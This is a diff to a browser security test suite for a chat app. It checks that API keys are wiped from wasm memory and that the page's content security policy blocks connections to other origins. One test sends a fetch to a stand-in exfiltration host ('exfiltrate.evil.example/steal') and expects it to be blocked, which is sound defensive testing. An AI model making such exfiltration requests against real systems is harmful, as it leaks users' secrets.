@@ -106,10 +106,7 @@ async function heapHas(page, needle) {
   }, needle);
 }
 
-test('replacing or forgetting the key clears its copies in wasm memory', {
-  todo: 'the key stays in freed wasm memory: automation_api.js frees the JSON argument buffer without zeroing it, ' +
-        'and the C++ copies (json parse, std::string, ProviderConfig, request headers) are released without being wiped',
-}, async () => {
+test('replacing or forgetting the key clears its copies in wasm memory', async () => {
   const { page, context } = await openApp(env.browser, env.url);
   const first = 'sk-first-key-0b1c2d3e4f5a6b7c8d9e', second = 'sk-second-key-9e8d7c6b5a4f3e2d1c0b';
   assert.notEqual(await heapHas(page, 'x'), null, 'the wasm heap is readable from the page');
@@ -174,15 +171,13 @@ test('the page policy forbids inline script and handlers, eval, and scripts, ima
   await context.close();
 });
 
-test('the page policy allows connections only to the chosen provider', {
-  todo: 'connect-src allows every https: origin (and every localhost port), not just the configured provider; ' +
-        'the page should narrow it (e.g. a second, stricter CSP meta added when the provider is chosen, or a ' +
-        'per-provider page policy)',
-}, async () => {
+test('the page policy allows connections only to the chosen provider', async () => {
   const { page, context } = await openApp(env.browser, env.url);
   await page.evaluate((p) => window.talkpress.setProvider(p), { kind: 'openai', baseUrl: fake.urls.openai, apiKey: GOOD_KEY, model: 'fake-gpt' });
   const r = await attempt(page, { kind: 'fetch', url: 'https://exfiltrate.evil.example/steal' });
   assert.ok(r.violations.length > 0, `a connection to another https origin is allowed (${r.outcome})`);
+  const chosen = await attempt(page, { kind: 'fetch', url: `${fake.urls.openai}/models` });
+  assert.deepEqual(chosen.violations, [], 'the chosen provider stays reachable');
   await context.close();
 });
 
